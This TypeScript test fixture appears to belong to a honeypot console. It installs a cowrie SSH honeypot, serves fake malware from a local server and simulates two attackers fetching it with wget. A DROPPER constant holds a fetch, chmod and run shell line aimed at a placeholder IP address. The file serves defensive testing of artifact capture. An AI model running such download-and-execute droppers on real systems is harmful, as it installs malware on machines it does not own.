/**
 * Real artifacts for the console's and the CLI's tests: Core with an operator and a read token,
 * a node running the built-in cowrie, a web server the test owns, and OpenSSH sessions (from
 * 127.0.0.1 and 127.0.0.2, two attackers) whose `wget` makes cowrie fetch files from it.
 */
import { createHash } from "node:crypto";
import { sha256 as hashToken } from "../../src/core/auth/tokens";
import { SSH_PASSWORD_OPTS, requireTool, sshPasswordEnv } from "./clients";
import { type ConsoleSystem, run, startSystem } from "./console";
import { freePort, getJson, until } from "./index";

export const OPERATOR = "operator-token-0123456789";
export const READER = "reader-token-0123456789";

/** An x86-64 ELF header and code-like bytes (application/x-elf), and a dropper script (text/x-shellscript). */
export const ELF = Buffer.concat([Buffer.from("7f454c4602010100000000000000000002003e00010000007810400000000000", "hex"), Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 7) % 256))]);
export const DROPPER = Buffer.from("#!/bin/sh\ncd /tmp && wget -q http://198.51.100.7/bins/x86 && chmod +x x86 && ./x86\n");
export const sha = (b: Uint8Array) => createHash("sha256").update(b).digest("hex");

const SSH_OPTS = [...SSH_PASSWORD_OPTS, "-o", "PubkeyAuthentication=no", "-o", "PreferredAuthentications=password"];

/** OpenSSH as root/123456 from `from` (any 127.x address: a second attacker on one machine), running `command` in cowrie's shell. */
export const sshFrom = (port: number, from: string, command: string) =>
  run([requireTool("ssh"), ...SSH_OPTS, "-b", from, "-p", String(port), "root@127.0.0.1", command], sshPasswordEnv("123456"));

/** A web server on 127.0.0.1 holding the ELF at /bins/x86 and /mirror/x86 and the dropper at /x.sh. */
export function malwareServer(): ReturnType<typeof Bun.serve> {
  const files: Record<string, Buffer> = { "/bins/x86": ELF, "/mirror/x86": ELF, "/x.sh": DROPPER };
  return Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    fetch: (req) => {
      const body = files[new URL(req.url).pathname];
      return body ? new Response(body, { headers: { "content-type": "application/octet-stream" } }) : new Response("not found", { status: 404 });
    },
  });
}

export interface ArtifactSystem extends AsyncDisposable {
  sys: ConsoleSystem;
  /** http://127.0.0.1:port of the web server holding /bins/x86, /mirror/x86 (the same bytes) and /x.sh. */
  web: string;
  auth: (token: string) => { headers: { authorization: string } };
  /** An SSH session from `from` (a loopback address) that runs `command` in cowrie's shell. */
  ssh: (from: string, command: string) => Promise<{ code: number; out: string }>;
  /** Waits until the artifact is stored and each of its sightings names its session in Core. */
  artifact: (hash: string, sightings: number) => Promise<any>;
}

export async function startArtifactSystem(): Promise<ArtifactSystem> {
  const server = malwareServer();
  const sys = await startSystem({
    tokens: [
      { name: "alice", role: "operator", sha256: hashToken(OPERATOR) },
      { name: "rita", role: "read", sha256: hashToken(READER) },
    ],
  });
  const auth = (token: string) => ({ headers: { authorization: `Bearer ${token}` } });
  const config = { ssh_port: String(sys.ports.ssh), telnet_port: String(freePort()), hostname: "db-prod-2", download_private: "true" };
  const sent = await getJson(`${sys.core.api}/api/v1/nodes/${sys.nodeId}/commands`, {
    method: "POST",
    headers: { "content-type": "application/json", authorization: `Bearer ${OPERATOR}` },
    body: JSON.stringify({ InstallPot: { pot_id: "ssh-01", honeypot_type: "cowrie", config, auto_start: true } }),
  });
  if (sent.status !== 202) throw new Error(`InstallPot: ${JSON.stringify(sent.body)}`);
  await until(async () => (await getJson(`${sys.core.api}/api/v1/honeypots`, auth(READER))).body.honeypots?.some((p: any) => p.pot_id === "ssh-01" && p.status === "Running"), "cowrie Running", 3000);
  return {
    sys,
    web: `http://127.0.0.1:${server.port}`,
    auth,
    ssh: (from, command) => sshFrom(sys.ports.ssh, from, command),
    artifact: (hash, sightings) =>
      until(
        async () => {
          const r = await getJson(`${sys.core.api}/api/v1/artifacts/${hash}`, auth(READER));
          return r.status === 200 && r.body.stored && r.body.sightings.length === sightings && r.body.sightings.every((s: any) => s.session_id !== null) && r.body;
        },
        `artifact ${hash} with ${sightings} sightings in their sessions`,
        3000,
      ),
    [Symbol.asyncDispose]: async () => {
      await sys[Symbol.asyncDispose]();
      server.stop(true);
    },
  };
}

/** The attacks both tests look at: the ELF fetched by two attackers from two URLs, the dropper by one. */
export async function fetchArtifacts(a: ArtifactSystem): Promise<{ elf: any; dropper: any }> {
  const first = await a.ssh("127.0.0.1", `cd /tmp; wget ${a.web}/bins/x86; wget ${a.web}/x.sh`);
  if (first.code !== 0) throw new Error(`ssh from 127.0.0.1: exit ${first.code}\n${first.out}`);
  const second = await a.ssh("127.0.0.2", `wget -O /tmp/.x ${a.web}/mirror/x86`);
  if (second.code !== 0) throw new Error(`ssh from 127.0.0.2: exit ${second.code}\n${second.out}`);
  return { elf: await a.artifact(sha(ELF), 2), dropper: await a.artifact(sha(DROPPER), 1) };
}
